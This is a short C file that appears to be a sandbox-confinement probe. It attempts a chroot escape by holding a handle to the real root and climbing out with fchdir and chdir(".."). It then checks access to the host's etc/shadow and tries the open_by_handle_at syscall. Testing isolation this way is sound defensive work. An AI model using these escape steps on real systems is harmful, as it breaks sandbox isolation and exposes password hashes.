/* The old way out: a root within a root, and back up past both. */
#include "hostile.h"

int main(void) {
  mkdir("/tmp/cage", 0755);
  int outside = open("/", O_RDONLY | O_DIRECTORY);
  ATTEMPT("chroot", chroot("/tmp/cage") == 0);
  for (int i = 0; i < 64; i++) {
    if (fchdir(outside) != 0 || chdir("..") != 0) break;
  }
  ATTEMPT("the host's passwords", access("etc/shadow", F_OK) == 0);
  ATTEMPT("a file by handle",
          syscall(304 /* open_by_handle_at on x86-64 */, outside, "\0\0\0\0\0\0\0\0", O_RDONLY) >= 0);
  return report();
}
